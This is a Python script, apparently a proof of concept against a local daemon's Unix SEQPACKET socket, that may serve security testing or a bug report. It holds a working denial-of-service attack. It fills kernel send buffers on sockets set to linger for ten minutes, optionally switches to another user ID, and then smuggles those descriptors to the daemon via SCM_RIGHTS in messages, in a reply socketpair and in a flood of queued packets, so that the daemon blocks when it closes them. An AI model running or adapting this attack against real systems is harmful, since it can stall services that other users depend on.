# SPDX-License-Identifier: GPL-2.0-only OR BSD-2-Clause
"""SOCKET [UID]: descriptors that block whoever closes them, in messages, in the
reply socket's own queue, and in a queue that is never read."""
import array
import os
import socket
import struct
import sys
import time

PATH = sys.argv[1]
MAGIC, VERSION, VERBS = 0x75726431, 1, 1


def lingering():
    """A socket that waits 10 minutes for a peer that does not read."""
    listener = socket.create_server(("127.0.0.1", 0))
    ours = socket.create_connection(listener.getsockname())
    peer, _ = listener.accept()
    ours.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 600))
    ours.setblocking(False)
    try:
        while True:
            ours.send(bytes(1 << 16))
    except BlockingIOError:
        return ours, peer


def send(s, data, fds):
    rights = [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", fds))]
    try:
        s.sendmsg([data], rights)
    except (BrokenPipeError, ConnectionResetError, BlockingIOError):
        return


def connect():
    s = socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET)
    s.connect(PATH)
    s.setblocking(False)
    return s


def attack(bad):
    """The last to have them open but the daemon; ends with them."""
    hello = struct.pack("=HHI", 1, 40, 0)
    hello += struct.pack("=IIII", MAGIC, VERSION, VERBS, 0) + bytes(16)
    sessions = [connect() for _ in range(4)]
    # beside a message; many of them
    send(sessions[0], hello, bad)
    send(sessions[1], hello, [bad[0]] * 253)
    # in the queue of the reply socket
    ours, theirs = socket.socketpair(socket.AF_UNIX, socket.SOCK_SEQPACKET)
    send(ours, b"x", bad)
    send(sessions[2], hello, [theirs.fileno()])
    # in the queue of the connection, more than is read at a time
    for _ in range(200):
        send(sessions[3], b"x", bad)
    os._exit(0)


sockets = [lingering() for _ in range(3)]
if len(sys.argv) > 2:
    os.setgroups([])
    os.setuid(int(sys.argv[2]))
mine, theirs = socket.socketpair()
child = os.fork()
if child == 0:
    mine.close()
    theirs.recv(1)  # the parent has closed its own
    attack([s.fileno() for s, _ in sockets])
for s, _ in sockets:
    s.close()
mine.send(b"x")
os.waitpid(child, 0)
print("sent", flush=True)
while True:
    time.sleep(60)  # the peers stay, and read nothing
